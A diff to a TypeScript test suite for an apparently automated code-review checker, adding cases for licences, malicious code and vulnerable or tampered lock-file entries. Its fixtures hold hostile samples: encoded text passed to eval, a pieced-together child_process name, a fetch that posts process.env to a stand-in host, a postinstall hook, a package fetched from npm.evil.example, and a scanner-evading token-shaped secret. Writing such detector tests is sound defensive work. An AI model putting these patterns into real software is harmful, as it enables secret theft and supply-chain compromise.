@@ -18,6 +18,31 @@ const code = (added: string, before = '') => ({
   ...(before ? { before: { 'src/a.mjs': before } } : {}),
 })
 
+/** `left` from version 1.0.0 to another. */
+const locked = (
+  version: string,
+  over: { resolved?: string; integrity?: string | undefined; license?: string } = {},
+) => {
+  const file = (of: string, more: object = {}) =>
+    JSON.stringify({
+      lockfileVersion: 3,
+      packages: {
+        'node_modules/left': {
+          version: of,
+          resolved: `https://registry.npmjs.org/left/-/left-${of}.tgz`,
+          integrity: `sha512-${of}`,
+          ...more,
+        },
+      },
+    })
+  const [before, after] = [file('1.0.0'), file(version, over)]
+  return {
+    changes: [change('package-lock.json', after, before)],
+    before: { 'package-lock.json': before },
+    after: { 'package-lock.json': after },
+  }
+}
+
 /** Put together here, so that no scanner takes this file for one that holds a secret. */
 const SECRET = ['ghp', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join('_')
 const IBAN = ['DE89', '3704', '0044', '0532', '0130', '00'].join(' ')
@@ -88,7 +113,31 @@ const CASES: readonly [check: string, what: string, verdict: Verdict, Facts][] =
     'needs_human',
     facts({ changes: [change('a.ts', '// SPDX-License-Identifier: GPL-3.0')] }),
   ],
-  ['law_and_ethics', 'a lock file', 'needs_human', facts({ changes: [change('package-lock.json', '{}')] })],
+  [
+    'law_and_ethics',
+    'a package with a permissive licence',
+    'pass',
+    facts(locked('2.0.0', { license: '(MIT OR GPL-3.0)' })),
+  ],
+  [
+    'law_and_ethics',
+    'a package with a restricted one',
+    'fail',
+    facts(locked('2.0.0', { license: 'AGPL-3.0-only' })),
+  ],
+  ['law_and_ethics', 'a package that gives none', 'needs_human', facts(locked('2.0.0'))],
+  [
+    'law_and_ethics',
+    'a package whose licence is free text',
+    'needs_human',
+    facts(locked('2.0.0', { license: 'see the file' })),
+  ],
+  [
+    'law_and_ethics',
+    'a lock file that can’t be read',
+    'needs_human',
+    facts({ changes: [change('Cargo.lock', 'x', 'y')], after: { 'Cargo.lock': 'x' } }),
+  ],
   ['transparency', 'readable text with a reason', 'pass', facts({ changes: migration })],
   [
     'transparency',
@@ -181,46 +230,85 @@ const CASES: readonly [check: string, what: string, verdict: Verdict, Facts][] =
   ['no_malicious_code', 'ordinary code', 'pass', facts(code('export const add = (a, b) => a + b'))],
   [
     'no_malicious_code',
-    'starting a process',
-    'fail',
+    'starting a process, which people are shown',
+    'pass',
     facts(code("import { exec } from 'node:child_process'\nexec('id')")),
   ],
+  ['no_malicious_code', 'encoded text that is run', 'fail', facts(code("eval(atob('YWxlcnQoMSk='))"))],
   [
     'no_malicious_code',
-    'starting a process by require',
+    'a name that is put together',
     'fail',
-    facts(code("require('child_process').exec('id')")),
+    facts(code("require('child_' + 'process').exec('id')")),
   ],
-  ['no_malicious_code', 'eval', 'fail', facts(code('eval(text)'))],
-  ['no_malicious_code', 'a constructor of functions', 'fail', facts(code("new Function('return 1')()"))],
-  ['no_malicious_code', 'an encoded payload', 'fail', facts(code(`const p = '${'QUJD'.repeat(80)}'`))],
   [
     'no_malicious_code',
-    'a built-in by the back door',
+    'the environment, sent away',
     'fail',
-    facts(code("process.getBuiltinModule('child_process').exec('id')")),
+    facts(code("fetch('https://a.example.io', { method: 'POST', body: JSON.stringify(process.env) })")),
   ],
-  ['no_malicious_code', 'the network', 'needs_human', facts(code("await fetch('https://example.com')"))],
-  ['no_malicious_code', 'a computed import', 'needs_human', facts(code('await import(name)'))],
-  ['no_malicious_code', 'the environment', 'needs_human', facts(code('send(process.env)'))],
   [
     'no_malicious_code',
-    'what the file could do before',
+    'what the file did before',
     'pass',
-    facts(
-      code(
-        "import { exec } from 'node:child_process'\nexec('ls')",
-        "import { exec } from 'node:child_process'\nexec('id')",
-      ),
-    ),
+    facts(code("// better\neval(atob('YWxlcnQoMSk='))", "eval(atob('YWxlcnQoMSk='))")),
+  ],
+  [
+    'no_malicious_code',
+    'a script at install',
+    'fail',
+    facts({
+      changes: [change('package.json', '{ "scripts": { "postinstall": "node x.js" } }')],
+      after: { 'package.json': '{ "scripts": { "postinstall": "node x.js" } }' },
+    }),
   ],
   ['no_malicious_code', 'code that does not parse', 'unknown', facts(code('const = ('))],
   ['no_vulnerabilities', 'lock file untouched', 'not_applicable', facts({ changes: migration })],
+  ['no_vulnerabilities', 'a package that nobody knows anything bad of', 'pass', facts(locked('2.0.0'))],
   [
     'no_vulnerabilities',
-    'a lock file',
+    'one with a known vulnerability',
+    'fail',
+    facts({
+      ...locked('2.0.0'),
+      advisories: {
+        answered: true,
+        source: 'a test',
+        found: [
+          {
+            id: 'GHSA-1',
+            of: { ecosystem: 'npm', name: 'left', version: '2.0.0' },
+            title: 'x',
+            severity: 'high',
+          },
+        ],
+      },
+    }),
+  ],
+  [
+    'no_vulnerabilities',
+    'one that nobody could be asked about',
     'unknown',
-    facts({ changes: [change('package-lock.json', '{}', '{ }')] }),
+    facts({ ...locked('2.0.0'), advisories: { answered: false, why: 'no connection' } }),
+  ],
+  [
+    'no_vulnerabilities',
+    'one from a host that is no registry',
+    'fail',
+    facts(locked('2.0.0', { resolved: 'https://npm.evil.example/left.tgz' })),
+  ],
+  ['no_vulnerabilities', 'one without integrity', 'fail', facts(locked('2.0.0', { integrity: undefined }))],
+  [
+    'no_vulnerabilities',
+    'one of the same version with another content',
+    'fail',
+    facts(locked('1.0.0', { integrity: 'sha512-other' })),
+  ],
+  [
+    'no_vulnerabilities',
+    'a lock file that can’t be read',
+    'unknown',
+    facts({ changes: [change('Cargo.lock', 'x', 'y')], after: { 'Cargo.lock': 'x' } }),
   ],
   ['cryptographic_signatures', 'a signature that fits', 'pass', facts()],
   [
